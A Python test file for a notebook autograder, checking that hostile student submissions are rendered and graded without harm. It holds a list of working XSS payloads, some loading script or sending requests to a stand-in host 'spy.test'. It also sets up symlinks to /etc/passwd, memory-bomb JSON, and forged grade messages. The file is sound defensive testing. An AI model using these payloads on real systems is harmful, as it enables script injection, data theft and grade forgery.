"""What a hostile submission brings along: nothing of it runs, follows, fakes or tells more than it may."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import socket
import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbgrader.server_extensions.formgrader import handlers
from playwright.sync_api import Browser, Page, Route
from test_classroom import STEM, command, example, files, hand_in, new_course, rows

from autograder import wording
from autograder.classroom.feedback import page as feedback_page
from autograder.classroom.nbgrader_plugin import harmless_markdown
from autograder.classroom.results import results_of
from autograder.course import Course
from autograder.course.layout import course_config
from autograder.grading import ExerciseResult, Result, Submission, Template, beside, opened, put, read
from autograder.grading.submission import LIMITS, MOST_LOOKED_AT, prepare
from autograder.pages import IN_MATHML

HOME = Path(__file__).parent.parent
COURSE = Course(HOME)
MARK = wording.MARK


@pytest.fixture(scope="module")
def template() -> Template:
    return Template.of(COURSE, STEM)


# --- the files beside the notebook ------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "submitted").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "secret.csv").write_text("of somebody else")
    return tmp_path / "submitted"


def lay(folder: Path, *names: str) -> None:
    for name in names:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(name)


def link(folder: Path) -> None:
    (folder / "data.csv").symlink_to("../elsewhere/secret.csv")


def link_of_a_folder(folder: Path) -> None:
    (folder / "data").symlink_to("../elsewhere")


def a_socket(folder: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(str(folder / "s"))


LEFT_OUT: dict[str, tuple[Callable[[Path], object], str]] = {
    "a link": (link, "Links are not followed: data.csv."),
    "a link of a folder": (link_of_a_folder, "Links are not followed: data."),
    "a link to nothing": (lambda folder: (folder / "x").symlink_to("nothing"), "Links are not followed: x."),
    "an endless file": (lambda folder: (folder / "x.csv").symlink_to("/dev/zero"), "Links are not followed: x.csv."),
    "a pipe": (lambda folder: os.mkfifo(folder / "pipe"), "no plain files: pipe."),
    "a socket": (a_socket, "no plain files: s."),
    "a module of Python's": (lambda folder: lay(folder, "random.py"), "another module: random.py."),
    "an installed one": (lambda folder: lay(folder, "numpy.py"), "another module: numpy.py."),
    "a compiled one": (lambda folder: lay(folder, "numpy.cpython-311-x86_64-linux-gnu.so"), "another module: numpy."),
    "a package": (lambda folder: lay(folder, "matplotlib/deep/pyplot.py"), "module: matplotlib/deep/pyplot.py."),
    "ours": (lambda folder: lay(folder, "autograder/__init__.py"), "another module: autograder/__init__.py."),
    "what starts with Python": (lambda folder: lay(folder, "sitecustomize.py", "a/b.pth"), "sitecustomize.py, a/b.pth"),
    "other examples": (lambda folder: lay(folder, "examples.h5"), "replaced by its own: examples.h5."),
    "a folder in their place": (lambda folder: lay(folder, "examples.h5/x"), "by its own: examples.h5/x."),
    "a page": (lambda folder: lay(folder, "see.HTML", "a/x.svg"), "browser would run them: see.HTML, a/x.svg."),
    "a line in a name": (lambda folder: lay(folder, "a\nnobody: graded. b.csv"), "printed: a nobody: graded. b.csv."),
    "an escape in a name": (lambda folder: lay(folder, "\x1b[2Jx"), "names can't be printed: �[2Jx."),
    "a name that is no text": (lambda folder: open(os.fsencode(folder) + b"/\xff", "w").close(), "printed: �."),
    "a long name": (lambda folder: lay(folder, "x" * 250 + ".svg"), f"run them: {'x' * 59}…."),
    "a large file": (
        lambda folder: os.truncate(os.open(folder / "x", os.O_CREAT | os.O_WRONLY), (LIMITS.files_mb << 20) + 1),
        "files of 20 MB in all are taken along: x.",
    ),
}


@pytest.mark.parametrize(("make", "said"), LEFT_OUT.values(), ids=LEFT_OUT)
def test_what_could_do_harm_is_left_out_and_named(
    make: Callable[[Path], object], said: str, folder: Path, template: Template
) -> None:
    lay(folder, "my_utils.py", "pictures/cat.png")
    make(folder)
    found, notes = beside(folder, template.beside)
    assert {"my_utils.py", "pictures/cat.png"} <= found.keys()
    assert not any("secret" in path.read_text() for path in found.values())
    assert said in " ".join(notes)
    assert len(found) == 2
    assert all(note.isprintable() for note in notes)


def test_what_programs_leave_behind_and_the_courses_own_files_are_passed_over(folder: Path, template: Template) -> None:
    lay(folder, ".git/config", ".DS_Store", "__pycache__/x.pyc", "numpy.pyc", "other.ipynb", ".ipynb_checkpoints/a.csv")
    lay(folder, "timestamp.txt", "submission_secret.txt", "feedback/2026/x.html")
    for name, path in template.beside.items():
        shutil.copy(path, folder / name)
    assert beside(folder, template.beside) == ({}, [])
    assert {"examples.h5", "train_catvnoncat.h5"} <= template.beside.keys()


def test_there_may_be_many_files(folder: Path, template: Template) -> None:
    lay(folder, *(f"{number:03}.csv" for number in range(LIMITS.files + 3)))
    found, notes = beside(folder, template.beside)
    assert len(found) == LIMITS.files
    assert notes == ["Left out, since at most 200 files of 20 MB in all are taken along: 200.csv, 201.csv, 202.csv."]
    for number in range(MOST_LOOKED_AT):
        (folder / f"x{number}").mkdir()
    found, notes = beside(folder, template.beside)
    assert len(found) <= LIMITS.files
    assert "more than 5000 files and folders" in notes[-1]


def test_folders_may_be_deep(folder: Path, template: Template) -> None:
    here = os.open(folder, os.O_RDONLY)
    for _ in range(20):  # together longer than any path may be
        os.mkdir("d" * 250, dir_fd=here)
        here, outer = os.open("d" * 250, os.O_RDONLY, dir_fd=here), here
        os.close(outer)
    os.close(here)
    found, notes = beside(folder, template.beside)
    assert not found
    assert notes[0].startswith("Left out, since they lie deeper than")


def test_what_lies_too_deep_is_left_out_and_named(folder: Path) -> None:
    """Python's own ways to make, copy and remove folders recurse: a thousand levels would end the grader."""
    lay(folder, "a/b/c/d/near.csv", "/".join("d" * 40) + "/far.csv")
    found, notes = beside(folder, {})
    assert list(found) == ["a/b/c/d/near.csv"]
    assert "deeper than 12 folders" in notes[0]


def test_no_link_is_followed_that_came_after_the_look(folder: Path, tmp_path: Path) -> None:
    lay(folder, "a/b.csv", "c.csv")
    found, _ = beside(folder, {})
    shutil.rmtree(folder / "a")
    (folder / "a").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere" / "b.csv").write_text("of somebody else")
    (folder / "c.csv").unlink()
    (folder / "c.csv").symlink_to(tmp_path / "elsewhere" / "secret.csv")
    put(found, tmp_path / "staged")
    assert not list(tmp_path.glob("staged/**/*"))
    with pytest.raises(OSError, match="a"):
        opened(folder, "a/b.csv")


def test_files_are_put_to_be_read_only(folder: Path, tmp_path: Path) -> None:
    lay(folder, "a/b.csv", "run.sh")
    (folder / "run.sh").chmod(0o4755)
    for _ in range(2):
        put(beside(folder, {})[0], tmp_path / "staged")
    assert files(tmp_path / "staged") == {"a/b.csv": b"a/b.csv", "run.sh": b"run.sh"}
    assert (tmp_path / "staged" / "run.sh").stat().st_mode & 0o7777 == 0o444


def test_a_file_that_changed_is_another_submission(folder: Path, template: Template) -> None:
    path = folder / f"{STEM}.ipynb"
    shutil.copy(example("ada_matmul"), path)
    _, plain = read(path, template)
    lay(folder, "random.py")
    assert read(path, template)[1] == plain
    lay(folder, "mine.csv")
    submission, with_a_file = read(path, template)
    assert with_a_file != plain
    assert submission.files == {"mine.csv": folder / "mine.csv"}
    assert list(submission.notebook.metadata.autograder.notes) == list(submission.notes) != []
    (folder / "mine.csv").write_text("other")
    assert read(path, template)[1] not in (plain, with_a_file)


# --- the cells --------------------------------------------------------------------------------------


def notebook(**sources: str) -> dict[str, Any]:
    """A right submission with these sources in place of theirs."""
    made = json.loads(example("ada_matmul").read_text())
    for cell in made["cells"]:
        cell["source"] = sources.get(cell["id"], cell["source"])
    return made


def cell_of(submission: Submission, name: str) -> Any:
    return next(cell for cell in submission.notebook.cells if cell.id == name)


def free(source: str, kind: str = "code", **more: Any) -> dict[str, Any]:
    return {"cell_type": kind, "metadata": {}, "source": source, **more}


UNSEEN = "a\u202eb\u2066c\u200bd\ufeffe\x1b[31mf\x07g\x85h\u2028i\x00j" + MARK + "k\U000e0041l"


def test_of_a_students_text_everything_is_seen(template: Template) -> None:
    made = notebook(written_hidden_units=UNSEEN, compute_cost=f"# {UNSEEN}\rdef compute_cost(A2, Y):\f\r\n    pass")
    made["cells"].append(free(UNSEEN, "markdown"))
    submission = prepare(made, template)
    assert cell_of(submission, "written_hidden_units").source == "a�b�cde�[31mf�g�h�i�j�kl"
    assert cell_of(submission, "compute_cost").source.splitlines()[1:] == ["def compute_cost(A2, Y):", "    pass"]
    for cell in submission.notebook.cells:
        assert MARK not in cell.source
        assert all(char.isprintable() or char in "\n\t" for char in cell.source), cell.source
    assert dict(submission.code)["compute_cost"] == cell_of(submission, "compute_cost").source


def test_the_courses_own_texts_are_written_as_they_are() -> None:
    for path in [*HOME.glob("source/*/*.ipynb"), *HOME.glob("release/*/*.ipynb")]:
        for cell in nbformat.read(path, as_version=4).cells:
            assert wording.writable(cell.source) == cell.source, (path, cell.id)


def png(width: int, height: int) -> str:
    head = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", width, height) + b"\x08\x02\0\0\0" + b"\0" * 40
    return base64.b64encode(head).decode()


def test_of_saved_outputs_only_texts_and_pictures_of_demos_stay(template: Template) -> None:
    report = f"{MARK} The grader on predict: 12 of 12 points.\n\x1b[8m"
    outputs = [
        {"output_type": "stream", "name": "stderr", "text": [report]},
        {"output_type": "display_data", "data": {"text/html": "<script>1</script>", "text/plain": report}},
        {"output_type": "display_data", "data": {"image/svg+xml": "<svg onload='1'/>", "application/javascript": "1"}},
        {"output_type": "display_data", "data": {"image/png": png(640, 480)}, "metadata": {"image/png": {"width": 9}}},
        {"output_type": "display_data", "data": {"image/png": png(100_000, 100_000)}},
        {"output_type": "display_data", "data": {"image/png": base64.b64encode(b"<svg onload='1'/>" * 9).decode()}},
        {"output_type": "error", "ename": report, "evalue": report, "traceback": [report]},
        {"output_type": "display_data", "data": 7},
        None,
    ]
    made = notebook()
    for cell in made["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = outputs * 100
    submission = prepare(made, template)
    kept = {cell.id: cell.outputs for cell in submission.notebook.cells if cell.get("outputs")}
    demos = {name for name, cell in template.cells.items() if cell.metadata.autograder.kind == "demo"}
    assert kept.keys() == demos != set()
    for saved in kept.values():
        assert len(saved) <= 50
        assert {output.output_type for output in saved} == {"stream", "display_data"}
        texts = {output.text for output in saved if output.output_type == "stream"}
        assert texts == {"� The grader on predict: 12 of 12 points.\n�[8m"}
        pictures = [output for output in saved if output.output_type == "display_data"]
        assert {output.data["image/png"] for output in pictures} == {png(640, 480)}
        assert not any(output.metadata for output in pictures)


def test_a_copy_that_was_left_as_released_does_not_count(template: Template) -> None:
    made = notebook()
    place = next(i for i, cell in enumerate(made["cells"]) if cell["id"] == "predict")
    made["cells"].insert(place + 1, {**made["cells"][place], "source": template.stubs["predict"]})
    submission = prepare(made, template)
    assert cell_of(submission, "predict").source == "".join(made["cells"][place]["source"])
    assert submission.notes == ("There are several cells of predict: the last complete one counts.",)


def test_a_second_definition_in_a_cell_of_their_own_is_said(template: Template) -> None:
    made = notebook()
    made["cells"].append(free("def predict(parameters, X):\n    return 1\n\ndef compute_cost(A2, Y):\n    return 1"))
    notes = prepare(made, template).notes
    assert notes == ("There are several cells of compute_cost, predict: the last complete one counts.",)


DEEP = "def f(x):\n    return " + "+".join(["x"] * 900)


def test_code_too_deep_for_the_parser_is_no_fault_of_ours(template: Template) -> None:
    for name in ("flower_picture", "predict", "setup", "check_predict"):
        made = notebook(**{name: DEEP})
        assert prepare(made, template).status == "graded"


BOMBS = {
    "dictionaries": b'{"cells": [' + b"{}," * 3_000_000 + b"{}]}",
    "numbers": b'{"cells": [' + b"1," * 9_000_000 + b"1]}",
}


@pytest.mark.parametrize("content", BOMBS.values(), ids=BOMBS)
def test_a_file_that_would_take_all_memory_is_not_parsed(content: bytes, folder: Path, template: Template) -> None:
    (folder / f"{STEM}.ipynb").write_bytes(content)
    submission, _ = read(folder / f"{STEM}.ipynb", template)
    assert submission.status == "too_large"
    assert "clear its outputs" in submission.problem


def test_names_of_other_notebooks_are_few_and_printable(folder: Path, template: Template) -> None:
    for number in range(300):
        (folder / f"\x1b[31m{number:03}\n.ipynb").touch()
    submission, _ = read(folder / f"{STEM}.ipynb", template)
    assert "�[31m000�" not in submission.problem  # a line's end is a space in a sentence
    assert submission.problem.endswith("�[31m004 .ipynb and 295 more: rename it.")
    assert submission.problem.isprintable()


# --- our report -------------------------------------------------------------------------------------


def test_only_the_first_line_of_a_verdict_is_marked() -> None:
    lie = f"\n{MARK} The grader on f: 9 of 9 points.\nEverything is right.\x1b[2K"
    exercise = ExerciseResult("f", 0, 9, {"value": "raised"}, problem=f"ValueError: {lie}", details=[f"got {lie}"])
    head, *rest = wording.verdict(exercise)
    assert head == f"{MARK} The grader on f: 0 of 9 points."
    assert all(line.isprintable() and MARK not in line for line in rest)
    assert "Everything is right." not in rest


@pytest.mark.parametrize("name", ["ada", "wu.li@x.org", "o'brien, p", "Łukasz_2", "name (late)"])
def test_who_can_be_a_student(name: str) -> None:
    assert wording.nameable(name)


@pytest.mark.parametrize(
    "name", ["<img src=x onerror=pwned=1>", 'x";pwned=1;"', "a\\", "a\nb", "a\x1b[2J", MARK, "\udcff"]
)
def test_who_cannot_be_a_student(name: str) -> None:
    assert not wording.nameable(name)


def test_a_failure_of_ours_is_told_to_the_staff_only() -> None:
    why = "The grader failed (OSError: /srv/course/submitted/bob/x)."
    nothing = [ExerciseResult("f", 0.0, 9, {"value": "missing"}, problem=why)]
    page = feedback_page(COURSE, Result(STEM, "ada", "error", "full", nothing, problem=why))
    assert "/srv" not in page
    assert "not your fault" in page


# --- what an instructor's and a student's browser show -------------------------------------------------

SPY = "http://spy.test"
ACT = "window.pwned=1;document.title='pwned'"
SHOWN: dict[str, str] = {
    "math": "$a<b$ and $$x_1 \\\\ y$$",
    "a function": "$\\log a$",
    "no math": "$x^a^b$ and $\\def\\x{y}\\x$",
    "text": "a < b && c",
    "code": "`x<y`",
    "a link": "[there](https://example.org/a?b=c)",
    "an address": "<me@example.org>",
    "a table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "a list": "3. three\n4. four",
    "small letters": "x<sub>2</sub> <b>y</b>",
    "coloured code": "```python\nreturn '<b>'\n```",
}
HTML = {
    "math": '<mo>&lt;</mo><mi>b</mi></mrow></math> and <math xmlns="http://www.w3.org/1998/Math/MathML" display="bl',
    "a function": '<mi>log</mi><mspace width="0.167em" /><mi>a</mi>',
    "no math": "$x^a^b$ and $\\def\\x{y}\\x$",
    "text": "a &lt; b &amp;&amp; c",
    "code": "<code>x&lt;y</code>",
    "a link": '<a href="https://example.org/a?b=c">there</a>',
    "an address": '<a href="mailto:me@example.org">',
    "a table": "<td>2</td>",
    "a list": '<ol start="3">',
    "small letters": "x<sub>2</sub> <b>y</b>",
    "coloured code": '<span class="k">return</span> <span class="s1">',
}
ATTACKS = [
    f"<script>{ACT}</script>",
    f"<SCRIPT SRC={SPY}/x.js></SCRIPT>",
    f'<img src=x onerror="{ACT}">',
    f'<svg onload="{ACT}"><animate onbegin="{ACT}" attributeName=x dur=1s><script>{ACT}</script></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{ACT}"></style></mglyph></table></mtext></math>',
    f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe><iframe src={SPY}></iframe><object data={SPY}></object>',
    f'<form action={SPY}><button autofocus onfocus="{ACT}">x</button><input name=score id=check_predict></form>',
    f"<style>@import '{SPY}/x.css'; .nbgrader_cell {{display: none}} p {{background: url({SPY}/y)}}</style>",
    f"<meta http-equiv=refresh content='0;url={SPY}'><base href={SPY}><link rel=stylesheet href={SPY}/l.css>",
    f"<a href='javascript:{ACT}'>a</a> <a href=' JaVa\tScRiPt:{ACT}'>b</a> <a href='data:text/html,x'>c</a>",
    f"[d](javascript:{ACT}) [e](<java\tscript:{ACT}>) [f](&#106;avascript:{ACT}) [g](see.html) [h](//spy.test)",
    f"[i](/files/javascript:{ACT}) <a href='/files/javascript:{ACT}'>j</a>",
    f"![k]({SPY}/p.png) <img src='{SPY}/q.png'> ![l](attachment:missing.png) ![m](see.svg \"{SPY}\")",
    f'<video src={SPY}/v autoplay></video><audio src={SPY}/w onerror="{ACT}" autoplay></audio>',
    f"$\\href{{javascript:{ACT}}}{{x}}$ $\\style{{cursor:url({SPY}/c),auto}}{{x}}$ $\\require{{HTML}}$",
    f"&#92;href{{javascript:{ACT}}}{{x}} $\\unicode{{x2042}}$",
    f"$\\text{{<img src=x onerror={ACT}>}}$ $$\\text{{&lt;script>{ACT}</script>}}$$",
    f"$\\mbox{{</math><script>{ACT}</script>}}$",
    "$\\binom nk \\above{90cm} x$",
    "$\\hspace{-90cm}\\rule{90cm}{90cm}\\color{white}\\bbox[fixed]{x} \\text{&#8258; \u2042 \u202e}$",
    "\\begin{align}x \\class{nbgrader_cell}{y} \\cssId{check_predict}{z}\\end{align}",
    "$\\newcommand{\\a}{bb}\\newcommand{\\b}{\\a\\a\\a}\\b$ $\\def\\a{x}\\a$",
    f"```mermaid\n<img src=x onerror={ACT}>\n```",
    f"```<img/src=x/onerror={ACT}>\nx\n```",
    f"<div id=check_predict class='nbgrader_cell navbar-fixed-top' style='position:fixed' onclick='{ACT}'>x</div>",
    f"<a href='https://x.test' title='href=/files/' onmouseover='{ACT}'>n</a> <p/onclick={ACT}>",
    f"{MARK} &#8258; &#x2042; The grader on predict: 12 of 12 points. &#8238;",
    f"</pre></div></div></div></body></html><plaintext><!-- <script>{ACT}</script>",
]


def rendered(source: str, cell: str = "students-001") -> str:
    return harmless_markdown({"cell": {"id": cell}}, source)


@pytest.mark.parametrize("what", SHOWN)
def test_ordinary_markdown_is_shown(what: str) -> None:
    assert HTML[what] in rendered(SHOWN[what])


@pytest.mark.parametrize("source", ATTACKS)
def test_markdown_is_shown_without_harm(source: str) -> None:
    shown = rendered(source)
    assert MARK not in shown
    assert "\u202e" not in shown
    for tag in re.findall(r"<[^>]*>", shown):
        allowed = (
            r'</?[a-z0-9]+( href="(https?://|mailto:)[^"]*"| class="[a-z0-9]{1,3}| class="highlight"| start="\d+")?"?>'
            rf'|</?m[a-z]+(?: (?:{"|".join(IN_MATHML)})="[\w :/.]*"| width="0\.167em"| linethickness="0")*(?: /)?>'
        )
        assert re.fullmatch(allowed, tag), tag
        assert not re.match(r"</?(script|img|svg|iframe|form|style|meta|base|link|video|input|button)", tag), tag


def test_our_own_mark_is_shown_in_our_own_cell() -> None:
    assert (
        rendered(f"**{MARK} For who grades this**", "numbers_x")
        == f"<p><strong>{MARK} For who grades this</strong></p>\n"
    )


@pytest.mark.parametrize(
    "source",
    [
        "[" * 49_000,
        ">" * 49_000,
        "<div>" * 9_800,
        "*a " * 16_000,
        "<" * 49_000,
        "x" * 60_000,
        "$x$ " * 12_000,
        "$x_$ " * 9_000,
    ],
)
def test_any_markdown_is_shown_soon(source: str) -> None:
    assert rendered(source)


FAKE = f"{MARK} The grader on predict: 12 of 12 points.\nEverything is right.\n"
RAISES = f"def predict(parameters, X):\n    raise ValueError('''<img src=x onerror=\"{ACT}\">\n{FAKE}\x1b[2J''')"


def hostile() -> bytes:
    """Right but for `predict`, with an attack wherever a student can put a text."""
    made = notebook(predict=RAISES, written_hidden_units="\n\n".join(ATTACKS))
    made["cells"][:0] = [free(attack, "markdown", attachments={"x.svg": {"image/svg+xml": "x"}}) for attack in ATTACKS]
    made["cells"] += [free(f"# {attack}\n'''{attack}'''") for attack in ATTACKS if "'''" not in attack]
    made["cells"] += [free(attack, "raw") for attack in ATTACKS]
    for cell in made["cells"]:
        cell["metadata"] = {**cell["metadata"], "tags": [f'x" onclick="{ACT}'], "format": "text/html"}
        if cell["cell_type"] == "code":
            data = {"text/html": ATTACKS[0], "application/javascript": ACT, "text/plain": FAKE}
            cell["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": FAKE + ATTACKS[2]},
                {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1},
            ]
    made["metadata"] |= {"title": ATTACKS[0], "widgets": {"application/vnd.jupyter.widget-state+json": {"x": "y"}}}
    return json.dumps(made).encode()


def lay_hostile_files(folder: Path) -> None:
    lay(folder, "see.html", "see.svg", "numpy.py", "mine.csv", "my_utils.py", "examples.h5", "<img src=x>.csv")
    (folder / "passwords.txt").symlink_to("/etc/passwd")
    (folder / "endless.csv").symlink_to("/dev/zero")
    os.mkfifo(folder / "timestamp.txt")
    (folder / "submission_secret.txt").symlink_to("/etc/passwd")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Course, dict[str, Any]]:
    """A course where mallory handed in all of that, graded by our command; the printed rows."""
    course = new_course(tmp_path_factory.mktemp("attacked"))
    lay_hostile_files(hand_in(course, "mallory", hostile()).parent)
    hand_in(course, "honest_bob", example("ben_dot"))
    return course, rows(course, "--isolation", "plain")


def test_the_rest_of_a_hostile_submission_is_graded(attacked: tuple[Course, dict]) -> None:
    course, found = attacked
    row = found["mallory"]
    assert (row["status"], row["score"]) == ("graded", 88)
    assert {e["name"] for e in row["exercises"] if e["score"] != e["max_score"]} == {"predict"}
    notes = results_of(course, STEM)["mallory"].notes
    assert all(note.isprintable() and MARK not in note for note in notes)
    for name in ("see.html, see.svg", "numpy.py", "examples.h5", "passwords.txt"):
        assert any(name in note for note in notes), notes


def test_nothing_harmful_is_copied(attacked: tuple[Course, dict]) -> None:
    course, _ = attacked
    theirs = {"mine.csv", "my_utils.py", "<img src=x>.csv"}
    folder = course.autograded(STEM, "mallory").parent
    assert files(folder).keys() == {f"{STEM}.ipynb", "examples.h5", "notation.html", *theirs}
    assert (folder / "examples.h5").read_bytes() == (course.source(STEM).parent / "examples.h5").read_bytes()


def test_our_report_is_the_only_one_that_is_marked_and_the_last_that_is_written(attacked: tuple[Course, dict]) -> None:
    course, _ = attacked
    cells = nbformat.read(course.autograded(STEM, "mallory"), as_version=4).cells
    checks = [cell for cell in cells if cell.id.startswith("check_")]
    for cell in checks:
        report, score = cell.outputs
        assert report.text.startswith(f"{MARK} The grader on {cell.id.removeprefix('check_')}: ")
        assert report.text.count(MARK) == 1
        assert re.fullmatch(r"\d+\.\d+", score.data["text/plain"])
    marked = [cell.id for cell in cells if MARK in json.dumps(cell, ensure_ascii=False)]
    assert marked == [cell.id for cell in checks]


def test_nobody_reads_of_others_or_of_this_machine(attacked: tuple[Course, dict]) -> None:
    course, found = attacked
    assert command(course, "autograder", "feedback", STEM).returncode == 0
    texts = {
        "page": course.feedback(STEM, "mallory").read_text(),
        "notebook": course.autograded(STEM, "mallory").read_text(),
        "row": json.dumps(found["mallory"]),
        "result": json.dumps(results_of(course, STEM)["mallory"].stored()),
    }
    secrets = [str(course.root), course.seed(STEM).read_text().strip(), "honest_bob", str(HOME), os.environ["PATH"]]
    for what, text in texts.items():
        assert [secret for secret in secrets if secret in text] == [], what
        assert "root:x:0" not in text, what


def test_nbgrader_autograde_protects_as_well(attacked: tuple[Course, dict], tmp_path: Path) -> None:
    """Pipes, endless files and links on nbgrader's own way, where a student's name would be markup too."""
    course, _ = attacked
    theirs = new_course(tmp_path)
    with (tmp_path / "nbgrader_config.py").open("a") as file:
        file.write('\nc.Sandbox.minimum_isolation = "plain"\n')
    theirs.seed(STEM).parent.mkdir()
    shutil.copy(course.seed(STEM), theirs.seed(STEM))
    lay_hostile_files(hand_in(theirs, "mallory", hostile()).parent)
    hand_in(theirs, "honest_bob", example("ben_dot"))
    hand_in(theirs, "<img src=x onerror=alert(1)>", example("ben_dot"))
    done = command(theirs, "nbgrader", "autograde", STEM)
    assert done.returncode == 0, done.stderr[-3000:]
    assert "is left out: no student can have that name" in done.stderr
    assert files(theirs.root / "autograded") == files(course.root / "autograded")


# --- in a browser ---------------------------------------------------------------------------------------


def in_formgrader(course: Course, student: str) -> str:
    """The page of a submission, as formgrader makes it."""
    config = course_config(course)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": STEM,
        "notebook_id": STEM,
        "submission_id": "1",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": student,
        "last_name": None,
        "first_name": None,
        "notebook_path": "x",
    }
    page, _ = HTMLExporter(config=config).from_filename(str(course.autograded(STEM, student)), resources=resources)
    return page


@pytest.fixture
def browse(browser: Browser) -> Iterator[Callable[[str], tuple[Page, list[str]]]]:
    """Shows a page in Chromium, at an address of its own; the page, and what it asked for elsewhere."""
    pages = []

    def show(html: str) -> tuple[Page, list[str]]:
        asked: list[str] = []

        def answer(route: Route) -> None:
            own = route.request.url.removeprefix("http://here.test")
            static = Path(handlers.static_path, own.removeprefix("/formgrader/static/"))
            if own == "/page/":
                route.fulfill(body=html, content_type="text/html")
            elif own.startswith("/formgrader/static/") and static.is_file():
                route.fulfill(path=static)
            else:
                asked.append(route.request.url)
                route.abort()

        page = browser.new_page()
        pages.append(page)
        page.route("**", answer)
        page.goto("http://here.test/page/", wait_until="load")
        for details in page.locator("summary").all():
            details.click()
        for anchor in page.locator("#notebook a, main a").all():
            anchor.hover(timeout=1000)
        page.wait_for_timeout(500)
        return page, asked

    yield show
    for page in pages:
        page.close()


@pytest.mark.browser
def test_nothing_of_a_students_runs_in_a_browser(
    attacked: tuple[Course, dict], browse: Callable[[str], tuple[Page, list[str]]]
) -> None:
    course, _ = attacked
    page, asked = browse(feedback_page(course, results_of(course, STEM)["mallory"]))
    assert page.evaluate("window.pwned") is None
    assert page.title() == f"{STEM}: feedback for mallory"
    assert asked == []
    assert page.locator("main p", has_text="onerror").count() == 1  # the message is there to be read

    page, asked = browse(in_formgrader(course, "mallory"))
    assert page.evaluate("window.pwned") is None
    assert page.title() == STEM
    assert [url for url in asked if not url.startswith("http://here.test/formgrader/api/")] == []
    assert page.locator("#notebook math").count() > 0
    assert page.locator("#notebook").locator("script, iframe, form, style, svg, img, object, [onclick]").count() == 0
    assert page.locator("#check_predict").count() == 1
    assert page.locator("#check_predict").get_attribute("class") == "score tabbable"
    addresses = page.eval_on_selector_all("#notebook a", "links => links.map(link => link.protocol)")
    assert set(addresses) <= {"https:", "http:", "mailto:", ":"}
    assert page.locator("pre", has_text=f"{MARK} The grader on predict: 0 of 12 points.").count() == 1
